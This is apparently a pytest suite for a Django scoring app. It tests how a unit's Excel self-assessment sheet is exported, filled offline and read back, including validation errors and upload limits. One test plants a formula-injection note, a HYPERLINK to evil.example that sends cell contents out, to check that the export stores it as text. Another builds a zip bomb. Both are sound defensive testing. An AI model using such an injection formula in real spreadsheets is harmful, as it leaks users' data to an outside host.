"""The Excel round-trip of a unit's sheet: export, fill offline, read the upload back."""

import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.translation import override
from openpyxl import load_workbook

from clusters.models import ClusterYear
from scoring import selectors, services
from scoring.excel import FIRST_ROW, export_sheet, read_upload
from scoring.models import Criterion, Score, ScoreEvent
from tests.factories import ClusterYearFactory, MembershipFactory, attach, make_criteria_set

pytestmark = pytest.mark.django_db

NOW = datetime.datetime(2024, 10, 1, 9, 0, tzinfo=datetime.UTC)
TODAY = NOW.date()

# SMALL_TREE as exported: criterion code → Excel row of the table.
CODES = ["1", "1.1", "1.2", "2", "2.1", "3", "3.1", "3.2", "4", "4.1", "4.2"]
ROWS = {code: FIRST_ROW + i for i, code in enumerate(CODES)}
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

FILLED = {
    "1.1": (35.5, "Đạt"),
    "1.2": (20, None),
    "2.1": ("39,75", "Khá"),
    "3.1": (8, None),
    "3.2": (5, None),
    "4.1": (2.25, "Vi phạm nhỏ"),
    "4.2": (0, None),
}


@pytest.fixture
def criteria(world) -> dict[str, Criterion]:
    criteria_set = make_criteria_set(superior=world.superior)
    attach(world.y6, criteria_set)
    return {c.code: c for c in criteria_set.criteria.all()}


def _scoring(cluster_year) -> None:
    ClusterYear.objects.filter(pk=cluster_year.pk).update(phase="scoring")


def _save(world, criteria, entries: dict[str, tuple], version: int = 0):
    _scoring(world.y6)
    return services.save_self_assessment(
        cluster_year=world.y6,
        unit=world.units["B"],
        entries={criteria[code].pk: services.Entry(points=p, note=n) for code, (p, n) in entries.items()},
        version=version,
        by=world.users["staff_b"],
        now=NOW,
        today=TODAY,
    )


def _fill(content: bytes, values: dict[str, tuple]) -> bytes:
    """The template with (points, note) typed into the rows of the given codes, as a user would."""
    workbook = load_workbook(io.BytesIO(content))
    sheet = workbook["Phiếu tự chấm điểm"]
    for code, (points, note) in values.items():
        sheet.cell(row=ROWS[code], column=5, value=points)
        sheet.cell(row=ROWS[code], column=6, value=note)
    return _save_workbook(workbook)


def _save_workbook(workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _upload(content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile("phieu.xlsx", content, XLSX)


def _table(content: bytes) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(content))["Phiếu tự chấm điểm"]
    return list(sheet.iter_rows(min_row=FIRST_ROW, max_col=6, values_only=True))


def _errors(**kwargs) -> list[str]:
    with override("en"), pytest.raises(ValidationError) as caught:
        read_upload(**kwargs)
    with override("en"):
        return caught.value.messages


def _stored(world) -> tuple[list[tuple], int]:
    scores = Score.objects.filter(sheet__unit=world.units["B"]).order_by("criterion__sort_key")
    return [(s.criterion.code, s.self_points, s.note) for s in scores], ScoreEvent.objects.count()


# --- export ----------------------------------------------------------------------------------------


def test_export_sheet_lists_the_criteria_with_blank_points_when_no_sheet(world, criteria):
    with override("en"):
        content = export_sheet(cluster_year=world.y6, unit=world.units["B"])

    sheet = load_workbook(io.BytesIO(content))["Phiếu tự chấm điểm"]
    header = list(sheet.iter_rows(min_row=1, max_row=6, max_col=6, values_only=True))
    assert header == [
        ("PHIẾU TỰ CHẤM ĐIỂM", None, None, None, None, None),
        ("Cụm thi đua", "Cụm 6", None, None, None, None),
        ("Năm", 2024, None, None, None, None),
        ("Đơn vị", "Đơn vị B", None, None, None, None),
        (None, None, None, None, None, None),
        ("Mã", "Nội dung tiêu chí", "Loại", "Điểm tối đa", "Điểm tự chấm", "Ghi chú"),
    ]
    assert _table(content) == [
        ("1", "Tiêu chí 1", "Group", None, None, None),
        ("1.1", "Tiêu chí 1.1", "Standard", 40, None, None),
        ("1.2", "Tiêu chí 1.2", "Standard", 20, None, None),
        ("2", "Tiêu chí 2", "Group", None, None, None),
        ("2.1", "Tiêu chí 2.1", "Standard", 40, None, None),
        ("3", "Tiêu chí 3", "Group", None, None, None),
        ("3.1", "Tiêu chí 3.1", "Bonus", 8, None, None),
        ("3.2", "Tiêu chí 3.2", "Bonus", 8, None, None),
        ("4", "Tiêu chí 4", "Group", None, None, None),
        ("4.1", "Tiêu chí 4.1", "Deduction", 10, None, None),
        ("4.2", "Tiêu chí 4.2", "Deduction", 10, None, None),
    ]


def test_export_sheet_unlocks_only_points_and_notes_of_leaves(world, criteria):
    content = export_sheet(cluster_year=world.y6, unit=world.units["B"])

    workbook = load_workbook(io.BytesIO(content))
    sheet = workbook["Phiếu tự chấm điểm"]
    unlocked = sorted(
        (cell.row, cell.column_letter) for row in sheet.iter_rows(max_row=30, max_col=8) for cell in row
        if not cell.protection.locked
    )
    leaves = [ROWS[code] for code in ("1.1", "1.2", "2.1", "3.1", "3.2", "4.1", "4.2")]
    assert unlocked == [(row, column) for row in leaves for column in ("E", "F")]
    assert sheet.protection.sheet is True
    assert sheet.protection.password is None
    assert {sheet.cell(row=row, column=5).number_format for row in leaves} == {"0.00"}
    assert [(row, sheet.cell(row=row, column=1).font.b) for row in (ROWS["1"], ROWS["1.1"])] == [
        (ROWS["1"], True), (ROWS["1.1"], False),
    ]


def test_export_sheet_keeps_identity_and_criteria_fingerprint_in_hidden_meta(world, criteria):
    content = export_sheet(cluster_year=world.y6, unit=world.units["B"])

    meta = load_workbook(io.BytesIO(content))["_meta"]
    values = dict(meta.iter_rows(max_col=2, values_only=True))
    assert meta.sheet_state == "hidden"
    assert {key: values[key] for key in ("cluster_year", "unit", "criteria_set")} == {
        "cluster_year": world.y6.pk,
        "unit": world.units["B"].pk,
        "criteria_set": criteria["1"].criteria_set_id,
    }
    assert len(values["fingerprint"]) == 64


def test_export_sheet_contains_the_current_points_and_notes(world, criteria):
    _save(world, criteria, {"1.1": ("35,5", "Đạt"), "3.1": ("8", ""), "4.1": ("2.25", "Vi phạm nhỏ")})

    content = export_sheet(cluster_year=world.y6, unit=world.units["B"])

    assert [(row[0], row[4], row[5]) for row in _table(content)] == [
        ("1", None, None),
        ("1.1", 35.5, "Đạt"),
        ("1.2", None, None),
        ("2", None, None),
        ("2.1", None, None),
        ("3", None, None),
        ("3.1", 8, None),
        ("3.2", None, None),
        ("4", None, None),
        ("4.1", 2.25, "Vi phạm nhỏ"),
        ("4.2", None, None),
    ]


def test_export_sheet_never_writes_text_as_a_formula(world, criteria):
    Criterion.objects.filter(pk=criteria["2.1"].pk).update(title="+1 cho đơn vị khác")
    note = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
    _save(world, criteria, {
        "1.1": ("10", note), "1.2": ("5", "-2 điểm vì trễ hạn"), "2.1": ("1", "ghi chú thường"),
    })

    content = export_sheet(cluster_year=world.y6, unit=world.units["B"])

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    sheet = load_workbook(io.BytesIO(content))["Phiếu tự chấm điểm"]
    cells = [sheet.cell(row=ROWS["1.1"], column=6), sheet.cell(row=ROWS["1.2"], column=6),
             sheet.cell(row=ROWS["2.1"], column=2), sheet.cell(row=ROWS["2.1"], column=6)]
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
        (note, "s", True),
        ("-2 điểm vì trễ hạn", "s", True),
        ("+1 cho đơn vị khác", "s", True),
        ("ghi chú thường", "s", False),
    ]


def test_export_sheet_refuses_a_cluster_year_without_criteria(world):
    with override("en"), pytest.raises(ValidationError) as caught:
        export_sheet(cluster_year=world.y6, unit=world.units["B"])

    with override("en"):
        assert caught.value.messages == ["No criteria set has been given to this cluster year yet."]


# --- round trip ------------------------------------------------------------------------------------


def test_read_upload_round_trip_saves_the_exact_total(world, criteria):
    content = _fill(export_sheet(cluster_year=world.y6, unit=world.units["B"]), FILLED)

    entries = read_upload(file=_upload(content), cluster_year=world.y6, unit=world.units["B"])
    _scoring(world.y6)
    services.save_self_assessment(
        cluster_year=world.y6, unit=world.units["B"], entries=entries, version=0, by=world.users["staff_b"],
        now=NOW, today=TODAY,
    )

    assert entries == {
        criteria["1.1"].pk: services.Entry(points=Decimal("35.50"), note="Đạt"),
        criteria["1.2"].pk: services.Entry(points=Decimal("20.00"), note=""),
        criteria["2.1"].pk: services.Entry(points=Decimal("39.75"), note="Khá"),
        criteria["3.1"].pk: services.Entry(points=Decimal("8.00"), note=""),
        criteria["3.2"].pk: services.Entry(points=Decimal("5.00"), note=""),
        criteria["4.1"].pk: services.Entry(points=Decimal("2.25"), note="Vi phạm nhỏ"),
        criteria["4.2"].pk: services.Entry(points=Decimal("0.00"), note=""),
    }
    sheet = selectors.sheet_with_totals(world.y6, world.units["B"])
    # 35.5 + 20 + 39.75 standard, bonus 13 capped at 10, deduction 2.25.
    assert (sheet.self_standard, sheet.self_bonus, sheet.self_deduction, sheet.self_total) == (
        Decimal("95.25"), Decimal("13.00"), Decimal("2.25"), Decimal("103.00"),
    )


def test_read_upload_gives_blank_points_and_the_stored_notes_of_an_untouched_export(world, criteria):
    _save(world, criteria, {"1.1": ("35,5", "Đạt"), "4.1": ("2.25", '=HYPERLINK("x")')})

    content = export_sheet(cluster_year=world.y6, unit=world.units["B"])
    entries = read_upload(file=io.BytesIO(content), cluster_year=world.y6, unit=world.units["B"])

    assert {code: entries[criteria[code].pk] for code in ("1.1", "1.2", "4.1")} == {
        "1.1": services.Entry(points=Decimal("35.50"), note="Đạt"),
        "1.2": services.Entry(points=None, note=""),
        "4.1": services.Entry(points=Decimal("2.25"), note='=HYPERLINK("x")'),
    }
    assert len(entries) == 7


@pytest.mark.parametrize(
    ("typed", "points"),
    [
        (12, Decimal("12.00")),
        (12.5, Decimal("12.50")),
        (0.07, Decimal("0.07")),
        ("12,5", Decimal("12.50")),
        (" 12,25 ", Decimal("12.25")),
        ("12.5", Decimal("12.50")),
        ("", None),
        ("   ", None),
    ],
)
def test_read_upload_accepts_number_cells_and_text_with_either_decimal_mark(world, criteria, typed, points):
    content = _fill(export_sheet(cluster_year=world.y6, unit=world.units["B"]), {"1.1": (typed, None)})

    entries = read_upload(file=_upload(content), cluster_year=world.y6, unit=world.units["B"])

    assert entries[criteria["1.1"].pk] == services.Entry(points=points, note="")


def _with_stored_number(content: bytes, code: str, stored: str) -> bytes:
    """The file with the points of ``code`` stored as Excel writes them (17 significant digits)."""
    content = _fill(content, {code: (0.123, None)})
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(buffer, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<v>0.123</v>", f"<v>{stored}</v>".encode())
            target.writestr(item, data)
    return buffer.getvalue()


def test_read_upload_reads_a_stored_float_exactly(world, criteria):
    content = export_sheet(cluster_year=world.y6, unit=world.units["B"])
    same_as_2_25 = _with_stored_number(content, "1.1", "2.2500000000000001")
    sum_of_tenths = _with_stored_number(content, "1.1", "0.30000000000000004")

    entries = read_upload(file=_upload(same_as_2_25), cluster_year=world.y6, unit=world.units["B"])
    errors = _errors(file=_upload(sum_of_tenths), cluster_year=world.y6, unit=world.units["B"])

    assert entries[criteria["1.1"].pk] == services.Entry(points=Decimal("2.25"), note="")
    assert errors == ["Row 8: Enter a number with at most 2 decimal places."]


# --- refused uploads ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("code", "typed", "message"),
    [
        ("1.1", "mười", 'Row 8: the points "mười" are not a number.'),
        ("1.1", True, 'Row 8: the points "True" are not a number.'),
        ("1.1", "=20+20", 'Row 8: the points "=20+20" are not a number.'),
        ("1.1", datetime.datetime(2024, 12, 5), 'Row 8: the points "2024-12-05 00:00:00" are not a number.'),
        ("1.1", 12.345, "Row 8: Enter a number with at most 2 decimal places."),
        ("1.1", "12,345", "Row 8: Enter a number with at most 2 decimal places."),
        ("1.1", -1, "Row 8: Points cannot be negative."),
        ("1.1", 40.01, "Row 8: At most 40 points for this criterion."),
        ("4.1", "10,5", "Row 16: At most 10 points can be deducted for this item."),
    ],
)
def test_read_upload_refuses_bad_points_naming_the_row(world, criteria, code, typed, message):
    content = _fill(export_sheet(cluster_year=world.y6, unit=world.units["B"]), {code: (typed, None)})

    assert _errors(file=_upload(content), cluster_year=world.y6, unit=world.units["B"]) == [message]


def test_read_upload_reports_every_problem_at_once_and_writes_nothing(world, criteria):
    _save(world, criteria, {"1.1": ("30", "cũ")})
    before = _stored(world)
    workbook = load_workbook(io.BytesIO(_fill(
        export_sheet(cluster_year=world.y6, unit=world.units["B"]),
        {"1.1": (41, "mới"), "1.2": ("abc", None), "2.1": (-3, None), "3.1": (1.234, None)},
    )))
    sheet = workbook["Phiếu tự chấm điểm"]
    sheet.cell(row=ROWS["1"], column=5, value=5)  # points on a group
    sheet.cell(row=ROWS["3.2"], column=1, value="3.9")  # unknown code: 3.2 is now missing
    sheet.cell(row=ROWS["4.2"], column=1, value="4.1")  # duplicate: 4.2 is now missing
    sheet.cell(row=ROWS["4.2"] + 2, column=6, value="ghi chú lạc")  # a note with no code

    errors = _errors(file=_upload(_save_workbook(workbook)), cluster_year=world.y6, unit=world.units["B"])

    assert errors == [
        "Row 7: 1 is a group; enter points and notes on its criteria.",
        "Row 8: At most 40 points for this criterion.",
        'Row 9: the points "abc" are not a number.',
        "Row 11: Points cannot be negative.",
        "Row 13: Enter a number with at most 2 decimal places.",
        "Row 14: there is no criterion 3.9.",
        "Row 17: criterion 4.1 is already on row 16.",
        "Row 19: points or a note without a criterion code.",
        "Criteria missing from the file: 3.2, 4.2.",
    ]
    assert _stored(world) == before


def test_read_upload_refuses_a_file_with_deleted_rows(world, criteria):
    workbook = load_workbook(io.BytesIO(export_sheet(cluster_year=world.y6, unit=world.units["B"])))
    workbook["Phiếu tự chấm điểm"].delete_rows(ROWS["2"], 2)

    errors = _errors(file=_upload(_save_workbook(workbook)), cluster_year=world.y6, unit=world.units["B"])

    assert errors == ["Criteria missing from the file: 2.1."]


def test_read_upload_refuses_a_file_for_another_unit(world, criteria):
    _save(world, criteria, {"1.1": ("30", "")})
    before = _stored(world)
    content = _fill(export_sheet(cluster_year=world.y6, unit=world.units["C"]), FILLED)

    errors = _errors(file=_upload(content), cluster_year=world.y6, unit=world.units["B"])

    assert errors == ["This file is for Đơn vị C, not Đơn vị B."]
    assert _stored(world) == before


def test_read_upload_refuses_a_file_for_another_year_of_the_cluster(world, criteria):
    last_year = ClusterYearFactory(cluster=world.c6, year=2023)
    MembershipFactory(cluster_year=last_year, unit=world.units["B"])
    attach(last_year, criteria["1"].criteria_set)
    content = _fill(export_sheet(cluster_year=last_year, unit=world.units["B"]), FILLED)

    errors = _errors(file=_upload(content), cluster_year=world.y6, unit=world.units["B"])

    assert errors == ["This file is for 2023, not 2024."]


def test_read_upload_refuses_a_file_for_another_cluster_and_unit(world, criteria):
    attach(world.y7, criteria["1"].criteria_set)
    content = _fill(export_sheet(cluster_year=world.y7, unit=world.units["D"]), FILLED)

    errors = _errors(file=_upload(content), cluster_year=world.y6, unit=world.units["B"])

    assert errors == [
        "This file is for Đơn vị D, not Đơn vị B.",
        "This file is for Cụm 7 – 2024, not Cụm 6 – 2024.",
    ]


def test_read_upload_refuses_a_file_made_on_other_criteria(world, criteria):
    content = _fill(export_sheet(cluster_year=world.y6, unit=world.units["B"]), FILLED)
    Criterion.objects.filter(pk=criteria["2.1"].pk).update(max_points=Decimal("45"))

    errors = _errors(file=_upload(content), cluster_year=world.y6, unit=world.units["B"])

    assert errors == ["The criteria changed since this file was downloaded; download a new template."]


def test_read_upload_accepts_reworded_titles(world, criteria):
    content = _fill(export_sheet(cluster_year=world.y6, unit=world.units["B"]), FILLED)
    Criterion.objects.filter(pk=criteria["2.1"].pk).update(title="Tiêu chí 2.1 (sửa câu chữ)")

    entries = read_upload(file=_upload(content), cluster_year=world.y6, unit=world.units["B"])

    assert entries[criteria["2.1"].pk] == services.Entry(points=Decimal("39.75"), note="Khá")


def test_read_upload_refuses_a_file_without_meta(world, criteria):
    workbook = load_workbook(io.BytesIO(export_sheet(cluster_year=world.y6, unit=world.units["B"])))
    workbook.remove(workbook["_meta"])

    errors = _errors(file=_upload(_save_workbook(workbook)), cluster_year=world.y6, unit=world.units["B"])

    assert errors == [
        "This file is not a score sheet downloaded from this site; download the template and fill it in."
    ]


def test_read_upload_refuses_a_moved_table(world, criteria):
    workbook = load_workbook(io.BytesIO(export_sheet(cluster_year=world.y6, unit=world.units["B"])))
    workbook["Phiếu tự chấm điểm"].insert_rows(1)

    errors = _errors(file=_upload(_save_workbook(workbook)), cluster_year=world.y6, unit=world.units["B"])

    assert errors == ["The layout of the sheet was changed; download a new template."]


def _zip_without_workbook() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "not a workbook")
    return buffer.getvalue()


@pytest.mark.parametrize(
    "content",
    [b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", b"Ma,Noi dung\n1.1,40\n", b"", _zip_without_workbook()],
    ids=["pdf", "csv", "empty", "zip"],
)
def test_read_upload_refuses_what_is_not_an_xlsx(world, criteria, content):
    errors = _errors(file=_upload(content), cluster_year=world.y6, unit=world.units["B"])

    assert errors == ["This is not an Excel (.xlsx) file, or the file is damaged."]


def test_read_upload_refuses_a_file_above_5_mb(world, criteria):
    content = b"0" * (5 * 1024 * 1024 + 1)

    errors = _errors(file=io.BytesIO(content), cluster_year=world.y6, unit=world.units["B"])

    assert errors == ["The file is larger than 5 MB."]


def test_read_upload_refuses_a_zip_that_unpacks_too_large(world, criteria):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/padding.bin", b"\0" * (51 * 1024 * 1024))

    errors = _errors(file=io.BytesIO(buffer.getvalue()), cluster_year=world.y6, unit=world.units["B"])

    assert errors == ["The file is larger than 5 MB."]
